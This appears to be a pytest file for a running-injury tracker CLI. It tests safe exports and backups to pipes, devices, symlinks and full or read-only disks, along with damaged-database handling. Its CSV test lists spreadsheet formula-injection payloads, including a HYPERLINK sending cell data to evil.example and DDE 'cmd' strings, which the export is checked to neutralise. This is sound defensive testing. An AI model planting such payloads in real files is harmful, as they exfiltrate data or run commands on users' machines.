"""Hostile places: where exports and backups are written (pipes, devices, stdout, planted
symlinks, full disks), and databases that are damaged, read-only or on a full disk.

Every refusal is exit 2 (the place given is the input) or 3 (the database), one sentence,
no traceback, and nothing written that SPEC.md does not allow. Disks and read-only folders
are small tmpfs mounts, which need root: without it those tests are skipped, saying why.
"""

import csv
import io
import json
import os
import re
import shutil
import sqlite3
import stat
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from contextlib import closing, contextmanager
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from typer.testing import CliRunner

from conftest import BESIDE_THE_DATABASE
from runrecover.cli import app
from sqlite_files import connect, dump, query

BACKUP = pytest.param(["backup"], marks=pytest.mark.sqlite_only("backup copies the SQLite file"))

FIXTURES = Path(__file__).parent / "fixtures"


def one_sentence(stderr: str) -> bool:
    lines = stderr.splitlines()
    return (len(lines) == 1 and stderr.rstrip().endswith(".")
            and "Traceback" not in stderr)


def history(cli) -> None:
    for args in (["injury", "add", "left calf strain", "--since", "2016-05-20"],
                 ["treat", "mesotherapy", "--on", "2016-06-14 10:00"],
                 ["pain", "3", "--on", "2016-06-15 07:00", "--context", "morning"],
                 ["log", "8k", "45:10", "--on", "2016-06-10 08:00"]):
        result = cli(*args)
        assert result.exit_code == 0, (args, result.stderr)


def checkpoint(path: Path) -> None:
    conn = connect(path)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()


def run_bytes(*args: str) -> tuple[int, bytes, str]:
    """The CLI in-process, stdout as bytes (a zip or a database is not text)."""
    result = CliRunner().invoke(app, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout_bytes, result.stderr


def subprocess_env(db_path: Path) -> dict[str, str]:
    return os.environ | {"RUNRECOVER_DB": str(db_path)}


# -- where exports and backups go ---------------------------------------------------------


@contextmanager
def fifo_reader(path: Path) -> Iterator[list[bytes]]:
    """A named pipe at `path` with a reader, as `--output >(gpg -e ...)` gives."""
    os.mkfifo(path, 0o600)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(path.read_bytes()))
    reader.start()
    try:
        yield received
    finally:
        # If the command never opened the pipe, the reader still waits for a writer: be
        # one. Non-blocking, because the reader may also be finishing, with no one left
        # to pair with (a blocking open would then wait forever).
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass  # ENXIO: no reader waiting
        reader.join()


def test_export_to_a_named_pipe_writes_into_it(cli, tmp_path):
    history(cli)
    pipe = tmp_path / "pipe"
    with fifo_reader(pipe) as received:
        result = cli("export", "--output", str(pipe))
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISFIFO(pipe.lstat().st_mode)  # still the pipe, not a file of health data
    assert len(json.loads(received[0])["activities"]) == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == [*BESIDE_THE_DATABASE, "pipe"]


def test_backup_to_a_named_pipe_writes_a_sound_copy_into_it(cli, tmp_path, db_path):
    history(cli)
    pipe = tmp_path / "pipe"
    with fifo_reader(pipe) as received:
        result = cli("backup", str(pipe))
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISFIFO(pipe.lstat().st_mode)
    copy = tmp_path / "copy.db"
    copy.write_bytes(received[0])
    assert dump(copy) == dump(db_path)
    assert sorted(p.name for p in db_path.parent.iterdir() if ".tmp" in p.name) == []


@pytest.mark.skipif(os.geteuid() != 0, reason="making a character device needs root")
@pytest.mark.parametrize("command", [["export"], ["export", "--format", "csv"], BACKUP])
def test_a_character_device_is_written_in_place(cli, tmp_path, command):
    history(cli)
    null = tmp_path / "null"
    os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # a /dev/null of our own
    args = [*command, "--output", str(null)] if command[0] == "export" else [*command, str(null)]
    result = cli(*args)
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISCHR(null.lstat().st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == [*BESIDE_THE_DATABASE, "null"]


@pytest.mark.skipif(os.geteuid() != 0, reason="making a character device needs root")
@pytest.mark.parametrize("command", [["export", "--output"], BACKUP])
def test_a_full_device_is_no_space_left_and_stays_a_device(cli, tmp_path, command):
    history(cli)
    full = tmp_path / "full"
    os.mknod(full, stat.S_IFCHR | 0o666, os.makedev(1, 7))  # a /dev/full of our own
    result = cli(*command, str(full))
    assert result.exit_code == 2, result.stderr
    assert one_sentence(result.stderr) and f"No space left on {full}" in result.stderr
    assert stat.S_ISCHR(full.lstat().st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == [*BESIDE_THE_DATABASE, "full"]


def test_dev_stdout_is_written_in_place(db_path, tmp_path, cli):
    history(cli)
    target = os.readlink("/dev/stdout")
    try:
        for command in (["export", "--output", "/dev/stdout"], ["backup", "/dev/stdout"]):
            piped = subprocess.run([sys.executable, "-m", "runrecover", *command],
                                   env=subprocess_env(db_path), capture_output=True, timeout=120)
            assert piped.returncode == 0, piped.stderr
            assert piped.stdout[:16] in (b'{\n  "format": "r', b"SQLite format 3\x00")
        # Behind /dev/stdout a regular file: the shell's `> out.json`, kept as it was opened.
        out = tmp_path / "out.json"
        with out.open("wb") as f:
            inode = os.fstat(f.fileno()).st_ino
            redirected = subprocess.run(
                [sys.executable, "-m", "runrecover", "export", "--output", "/dev/stdout"],
                env=subprocess_env(db_path), stdout=f, stderr=subprocess.PIPE, timeout=120)
        assert redirected.returncode == 0, redirected.stderr
        assert out.stat().st_ino == inode
        assert json.loads(out.read_bytes())["format"] == "runrecover"
    finally:
        if not os.path.islink("/dev/stdout"):  # never leave the machine without it
            os.unlink("/dev/stdout")
            os.symlink(target, "/dev/stdout")
    assert os.readlink("/dev/stdout") == target


def test_dash_is_stdout(cli, db_path):
    history(cli)
    code, out, _ = run_bytes("export", "--output", "-")
    assert code == 0 and json.loads(out)["format"] == "runrecover"
    code, out, _ = run_bytes("export", "--format", "csv", "--output", "-")
    assert code == 0
    assert "activities.csv" in zipfile.ZipFile(io.BytesIO(out)).namelist()
    code, out, stderr = run_bytes("backup", "-")
    assert code == 0, stderr
    assert "Backed up" in stderr  # the message stays off stdout, which holds the copy
    copy = db_path.parent.parent / "copy.db"
    copy.write_bytes(out)
    assert dump(copy) == dump(db_path)
    assert {p.name for p in db_path.parent.iterdir()} <= {
        "runrecover.db", "runrecover.db-shm", "runrecover.db-wal"}


@pytest.mark.sqlite_only("backup copies the SQLite file")
def test_a_planted_symlink_at_the_old_temporary_name_is_not_followed(cli, tmp_path):
    """The temporary file once was `.NAME.PID.tmp`, opened without O_EXCL: another user of
    a shared folder could point that name at a file of theirs, or of root's."""
    history(cli)
    shared = tmp_path / "shared"
    shared.mkdir()
    victim = tmp_path / "victim"
    victim.write_bytes(b"root's file\n")
    for name in ("out.json", "copy.db"):
        (shared / f".{name}.{os.getpid()}.tmp").symlink_to(victim)
    assert cli("export", "--output", str(shared / "out.json")).exit_code == 0
    assert cli("backup", str(shared / "copy.db")).exit_code == 0
    assert victim.read_bytes() == b"root's file\n"
    for name in ("out.json", "copy.db"):
        made = shared / name
        assert stat.S_ISREG(made.lstat().st_mode)
        assert stat.S_IMODE(made.stat().st_mode) == 0o600
    assert sorted(p.name for p in shared.iterdir()) == sorted(
        ["out.json", "copy.db", f".out.json.{os.getpid()}.tmp", f".copy.db.{os.getpid()}.tmp"])


def test_a_symlink_to_a_file_replaces_that_file(cli, tmp_path):
    history(cli)
    real = tmp_path / "real.json"
    real.write_text("old")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    assert cli("export", "--output", str(link)).exit_code == 0
    assert link.is_symlink()
    assert json.loads(real.read_text())["format"] == "runrecover"


@pytest.mark.sqlite_only("backup copies the SQLite file")
def test_what_killed_backups_left_is_removed_by_the_next(cli, tmp_path):
    history(cli)
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True)
    dead_pid = int(dead.stdout)
    folder = tmp_path / "copies"
    folder.mkdir()
    leftovers = [f".copy.db.rr{dead_pid}-k1ll3d.tmp", f".copy.db.rr{dead_pid}-k1ll3d.tmp-journal"]
    alive = f".other.db.rr{os.getppid()}-w0rk1n.tmp"  # a live process's: not touched
    for name in (*leftovers, alive):
        (folder / name).write_bytes(b"half a backup")
    assert cli("backup", str(folder / "copy2.db")).exit_code == 0
    assert sorted(p.name for p in folder.iterdir()) == sorted(["copy2.db", alive])


def test_a_backup_killed_midway_leaves_nothing_once_another_runs(cli, db_path, tmp_path):
    """Killed while its checked copy waits for a pipe's reader: the copy, health data,
    stays beside the database until the next backup removes it."""
    history(cli)
    for n in range(40):  # more than a pipe holds (64 KiB), so the backup waits on it
        assert cli("pain", "2", "--on", f"2016-06-{1 + n % 14:02d} 0{n % 10}:00",
                   "--note", "n" * 9000).exit_code == 0
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe, 0o600)
    child = subprocess.Popen([sys.executable, "-m", "runrecover", "backup", str(pipe)],
                             env=subprocess_env(db_path), stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    opened: list[int] = []  # the pipe's read end, once the backup has its copy made
    opener = threading.Thread(target=lambda: opened.append(os.open(pipe, os.O_RDONLY)))
    opener.start()
    opener.join(timeout=120)  # a safety net against a hang, not a measure of time
    child.kill()
    child.wait()
    if not opened:  # the backup failed before opening the pipe: release the opener
        os.close(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK))
        opener.join()
    os.close(opened[0])
    assert child.returncode == -9  # killed while writing, not finished
    left = [p.name for p in db_path.parent.iterdir() if p.name.endswith(".tmp")]
    assert len(left) == 1 and f".rr{child.pid}-" in left[0]

    assert cli("backup", str(tmp_path / "copy.db")).exit_code == 0

    assert [p.name for p in db_path.parent.iterdir() if ".tmp" in p.name] == []


# -- CSV export: no formulas --------------------------------------------------------------

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?d="&A1,"calf")', "=cmd|' /C calc'!A0",
                 "+SUM(A1)", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
                 "=1+1", "-3"]


def formula_like(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? A plain number is a number."""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_csv_export_holds_no_formula(cli, db_path, tmp_path):
    for n, text in enumerate(HOSTILE_CELLS):
        name = text.replace("\t", " ").replace("\r", " ") + f" {n}"  # names are one line
        note = f"--note={text}"
        assert cli("injury", "add", note, "--since", "2016-05-20", f"--part=@calf{n}",
                   "--", name).exit_code == 0
        assert cli("race", "add", note, "--", name, "2016-07-01").exit_code == 0
        assert cli("pain", "2", "--injury", str(n + 1), note).exit_code == 0
        assert cli("log", "5k", note, "--on", f"2016-06-{n + 1:02d}").exit_code == 0
        assert cli("treat", "physio", "--injury", str(n + 1), f"--by=+Dr {n}", note,
                   "--on", f"2016-06-{n + 1:02d}").exit_code == 0
    out = tmp_path / "out.zip"
    assert cli("export", "--format", "csv", "--output", str(out)).exit_code == 0

    cells = []
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode()
            cells += [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [c for c in cells if formula_like(c)] == []
    for text in HOSTILE_CELLS:  # each kept, as text, behind the apostrophe
        assert "'" + text in cells

    exported = json.loads(cli("export").stdout)  # JSON stays exact
    assert sorted(i["note"] for i in exported["injuries"]) == sorted(HOSTILE_CELLS)


# -- damaged databases --------------------------------------------------------------------


def root_page(path: Path, table: str) -> tuple[bytearray, int]:
    """The file's bytes, all in the file (checkpointed), and where `table`'s root page
    starts in them."""
    checkpoint(path)
    root = query(path, f"SELECT rootpage FROM sqlite_master WHERE name = '{table}'")
    return bytearray(path.read_bytes()), (root - 1) * query(path, "PRAGMA page_size")


def damage_table(path: Path, table: str) -> None:
    """Garbage over the b-tree header of `table`'s root page: only commands that read that
    table would notice it."""
    data, page = root_page(path, table)
    data[page:page + 12] = b"\xff" * 12
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("command", [
    ["pain", "2"], ["undo", "--yes"], ["injury", "add", "knee"], ["export"],
    ["export", "--format", "csv", "--output", "{tmp}/out.zip"], ["backup", "{tmp}/copy.db"],
])
def test_a_damaged_database_is_neither_written_nor_copied(cli, db_path, tmp_path, command):
    history(cli)
    damage_table(db_path, "activity")
    image = db_path.read_bytes()
    args = [a.replace("{tmp}", str(tmp_path)) for a in command]

    result = cli(*args)

    assert result.exit_code == 3, result.stderr
    assert one_sentence(result.stderr), result.stderr
    assert "damaged" in result.stderr and str(db_path) in result.stderr
    assert result.stdout == ""
    assert db_path.read_bytes() == image
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]  # no out.zip, no copy.db
    assert [p.name for p in db_path.parent.iterdir() if ".tmp" in p.name] == []


def lose_last_row_silently(path: Path, table: str) -> None:
    """Point the last cell of `table`'s root page (a leaf) at the one before: a plain read
    gets the row before twice and the last one not at all, without an error."""
    data, page = root_page(path, table)
    assert data[page] == 13  # a table's leaf page: cell pointers from byte 8
    cells = int.from_bytes(data[page + 3:page + 5], "big")
    last = page + 8 + 2 * (cells - 1)
    data[last:last + 2] = data[last - 2:last]
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("command", [
    ["export", "--format", "ics", "--output", "{tmp}/plan.ics"], ["export"],
    ["export", "--format", "csv", "--output", "{tmp}/out.zip"],
])
def test_an_export_refuses_damage_that_reads_back_silently(cli, db_path, tmp_path, command):
    """A damaged page that SQLite reads without complaint (the last treatment, the one that
    forbids running, read back as a second copy of the one before) is found by the check
    of the whole file that every export runs first: the calendar too, which would otherwise
    lack that window. The one sentence names SQLite's first complaint, on one line."""
    history(cli)
    assert cli("treat", "cortisone", "--on", "2016-06-15 09:00").exit_code == 0
    lose_last_row_silently(db_path, "treatment")
    with closing(connect(db_path)) as conn:
        kinds = [row[0] for row in conn.execute("SELECT kind FROM treatment")]
    assert kinds == ["mesotherapy", "mesotherapy"]  # cortisone gone, and no error
    image = db_path.read_bytes()
    args = [a.replace("{tmp}", str(tmp_path)) for a in command]

    result = cli(*args)

    assert result.exit_code == 3, result.stderr
    assert one_sentence(result.stderr), result.stderr
    assert "damaged (On tree page" in result.stderr and "***" not in result.stderr
    assert result.stdout == "" and db_path.read_bytes() == image
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]


@pytest.mark.parametrize("damage", ["page", "cut short"])
def test_a_damaged_database_can_be_replaced_by_a_backup(cli, db_path, tmp_path, damage):
    history(cli)
    good = tmp_path / "good.db"
    assert cli("backup", str(good)).exit_code == 0
    expected = dump(good)
    if damage == "page":
        damage_table(db_path, "activity")
    else:
        checkpoint(db_path)
        db_path.write_bytes(db_path.read_bytes()[:-4096])
    image = db_path.read_bytes()

    result = cli("restore", str(good), "--yes")

    assert result.exit_code == 0, result.stderr
    assert dump(db_path) == expected
    kept = next(db_path.parent.glob("runrecover.db.before-restore-*"))
    assert kept.stat().st_size == len(image)  # kept as it was, damage and all
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    assert [p.name for p in db_path.parent.iterdir() if ".tmp" in p.name] == []


def test_a_truncated_database_is_refused_untouched(cli, db_path):
    history(cli)
    checkpoint(db_path)
    image = db_path.read_bytes()[:-4096]
    db_path.write_bytes(image)
    result = cli("status")
    assert result.exit_code == 3
    assert "cut short" in result.stderr and one_sentence(result.stderr)
    assert db_path.read_bytes() == image


def test_a_backup_is_checked_before_it_is_called_done(cli, db_path, tmp_path):
    history(cli)
    result = cli("backup", str(tmp_path / "copy.db"))
    assert result.exit_code == 0
    conn = sqlite3.connect(f"{(tmp_path / 'copy.db').as_uri()}?mode=ro", uri=True)
    assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
    conn.close()


# -- identity: refusing leaves nothing beside the file ------------------------------------


def test_a_newer_database_in_wal_mode_is_refused_without_wal_files(cli, db_path):
    history(cli)
    conn = connect(db_path)
    conn.execute("PRAGMA user_version = 99")
    conn.commit()
    conn.close()  # the last connection: checkpointed, -wal and -shm gone
    assert sorted(p.name for p in db_path.parent.iterdir()) == ["runrecover.db"]
    image = db_path.read_bytes()
    result = cli("pain", "2")
    assert result.exit_code == 3 and "newer runrecover" in result.stderr
    assert sorted(p.name for p in db_path.parent.iterdir()) == ["runrecover.db"]
    assert db_path.read_bytes() == image


def test_identity_is_read_from_the_wal_when_it_holds_newer_pages(cli, db_path):
    """A migration committed to the WAL but not yet checkpointed: the header alone would
    still say schema 0 and no tables."""
    history(cli)
    holder = connect(db_path)
    holder.execute("PRAGMA wal_autocheckpoint = 0")
    holder.execute("PRAGMA user_version = 99")
    holder.commit()
    try:
        result = cli("status")
        assert result.exit_code == 3 and "newer runrecover" in result.stderr
    finally:
        holder.close()


# -- pages of another size ----------------------------------------------------------------


def test_a_backup_with_1024_byte_pages_can_be_restored(cli, db_path, tmp_path):
    history(cli)
    small = tmp_path / "small.db"
    assert cli("backup", str(small)).exit_code == 0
    conn = sqlite3.connect(small)
    conn.execute("PRAGMA page_size = 1024")
    conn.execute("VACUUM")
    conn.close()
    assert query(small, "PRAGMA page_size") == 1024
    expected = json.loads(cli("export").stdout)
    assert cli("pain", "9").exit_code == 0

    result = cli("restore", str(small), "--yes")

    assert result.exit_code == 0, result.stderr
    restored = json.loads(cli("export").stdout)
    assert {k: v for k, v in restored.items() if k != "exported_at"} == {
        k: v for k, v in expected.items() if k != "exported_at"}


# -- modes --------------------------------------------------------------------------------


def test_an_old_world_readable_database_becomes_private_on_migration(cli, db_path):
    db_path.parent.mkdir(mode=0o700)
    shutil.copyfile(FIXTURES / "schema-v1.db", db_path)
    db_path.chmod(0o644)
    assert cli("status").exit_code == 0
    assert stat.S_IMODE(db_path.stat().st_mode) == 0o600
    for copy in db_path.parent.glob("runrecover.db.bak-*"):
        assert stat.S_IMODE(copy.stat().st_mode) == 0o600


# -- 1900 ---------------------------------------------------------------------------------


@pytest.mark.parametrize("zone", ["Europe/Paris", "America/New_York"])
def test_a_moment_in_1900_has_an_iso_8601_offset(cli, monkeypatch, zone):
    """Local mean time had offsets in seconds (Paris +00:09:21, New York -04:56:02)."""
    monkeypatch.setenv("TZ", zone)
    assert cli("treat", "physio", "--on", "1900-01-01 10:00").exit_code == 0
    assert cli("race", "add", "Old race", "1900-06-01").exit_code == 0
    exported = json.loads(cli("export").stdout)
    treatment, race = exported["treatments"][0]["at"], exported["races"][0]["at"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", treatment)
    # The same instant as 10:00 local mean time; a race with no time is its calendar date.
    local_mean = datetime(1900, 1, 1, 10, 0, tzinfo=ZoneInfo(zone))
    assert datetime.fromisoformat(treatment) == local_mean
    assert race == "1900-06-01"
    status = cli("status", "--at", "1900-01-01 11:00", "--json").json()
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", status["at"])


# -- references and ids -------------------------------------------------------------------


def test_references_are_literal_text(cli):
    for name in ("left calf", "50% tear", "foo_bar"):
        assert cli("injury", "add", name).exit_code == 0
    assert cli("injury", "show", "%", "--json").json()["injury"]["name"] == "50% tear"
    assert cli("injury", "show", "_", "--json").json()["injury"]["name"] == "foo_bar"
    assert cli("pain", "2", "--injury", "o_b").exit_code == 0
    refused = cli("pain", "2", "--injury", "c%f")
    assert refused.exit_code == 2 and "'c%f'" in refused.stderr


# -- disks: full, read-only ---------------------------------------------------------------


@contextmanager
def tmpfs(path: Path, size: str, *options: str) -> Iterator[Path]:
    path.mkdir(exist_ok=True)
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("a small disk needs a tmpfs mount, which needs root")
    made = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size},mode=0700", "tmpfs",
                           str(path)], capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {made.stderr.strip()}")
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], check=True)


def fill(disk: Path) -> None:
    """Take every free block, leaving the disk full."""
    fd = os.open(disk / "ballast", os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        while True:
            os.write(fd, b"\0" * 4096)
    except OSError:
        pass
    finally:
        os.close(fd)


def remount_read_only(disk: Path) -> None:
    subprocess.run(["mount", "-o", "remount,ro", str(disk)], check=True)


@pytest.mark.sqlite_only("its backup copies the SQLite file")
def test_export_to_a_full_disk(cli, tmp_path):
    history(cli)
    with tmpfs(tmp_path / "disk", "64k") as disk:
        fill(disk)
        for args in (["export", "--output", f"{disk}/out.json"],
                     ["export", "--format", "csv", "--output", f"{disk}/out.zip"],
                     ["backup", f"{disk}/copy.db"]):
            result = cli(*args)
            assert result.exit_code == 2, result.stderr
            assert one_sentence(result.stderr), result.stderr
            assert f"No space left on {disk}/" in result.stderr
            assert sorted(p.name for p in disk.iterdir()) == ["ballast"]


def test_writing_to_a_database_on_a_full_disk(cli, db_path, tmp_path, monkeypatch):
    with tmpfs(tmp_path / "disk", "512k") as disk:
        database = disk / "runrecover.db"
        monkeypatch.setenv("RUNRECOVER_DB", str(database))
        history(cli)
        checkpoint(database)
        before = dump(database)
        fill(disk)
        result = cli("log", "5k", "--note", "x" * 5000)
        assert result.exit_code == 3, result.stderr
        assert one_sentence(result.stderr), result.stderr
        assert f"No space left on {database}" in result.stderr
        (disk / "ballast").unlink()
        assert dump(database) == before


def test_a_migration_on_a_nearly_full_disk_says_why(cli, tmp_path, monkeypatch):
    """From no room for the copy kept before upgrading, through room for the copy but not
    for the migration, to room for both: the real error or success, never "cannot
    rollback", and the old file as it was."""
    fixture = FIXTURES / "schema-v1.db"
    expected = dump(fixture)
    outcomes = set()
    with tmpfs(tmp_path / "disk", "1m") as disk:
        database = disk / "runrecover.db"
        monkeypatch.setenv("RUNRECOVER_DB", str(database))
        for room_kib in range(0, 160, 8):
            for old in disk.iterdir():
                old.unlink()
            shutil.copyfile(fixture, database)
            database.chmod(0o600)
            free = os.statvfs(disk).f_bavail * os.statvfs(disk).f_frsize
            ballast = os.open(disk / "ballast", os.O_WRONLY | os.O_CREAT, 0o600)
            os.write(ballast, b"\0" * max(0, free - fixture.stat().st_size - room_kib * 1024))
            os.close(ballast)

            result = cli("status")

            outcomes.add(result.exit_code)
            if result.exit_code == 0:
                continue
            assert result.exit_code == 3, result.stderr
            assert one_sentence(result.stderr), result.stderr
            assert "No space left" in result.stderr and "cannot rollback" not in result.stderr
            (disk / "ballast").unlink()
            assert dump(database) == expected
            assert [p.name for p in disk.iterdir() if ".tmp" in p.name] == []
    assert outcomes == {0, 3}


def test_a_read_only_folder(cli, tmp_path, monkeypatch):
    with tmpfs(tmp_path / "disk", "1m") as disk:
        database = disk / "runrecover.db"
        monkeypatch.setenv("RUNRECOVER_DB", str(database))
        history(cli)
        checkpoint(database)
        expected = dump(database)
        remount_read_only(disk)
        names = sorted(p.name for p in disk.iterdir())

        status = cli("status", "--json")  # reading needs no write access
        assert status.exit_code == 0, status.stderr
        assert status.json()["can_run"] is False
        assert cli("export").exit_code == 0
        copy = tmp_path / "copy.db"
        assert cli("backup", str(copy)).exit_code == 0
        assert dump(copy) == expected

        for args in (["pain", "2"], ["undo", "--yes"]):
            result = cli(*args)
            assert result.exit_code == 3, result.stderr
            assert one_sentence(result.stderr), result.stderr
            assert "cannot be used" in result.stderr and "read-only" in result.stderr
            assert "restore" not in result.stderr
        backup = cli("backup")  # its default place is beside the database
        assert backup.exit_code in (2, 3) and one_sentence(backup.stderr), backup.stderr
        assert sorted(p.name for p in disk.iterdir()) == names
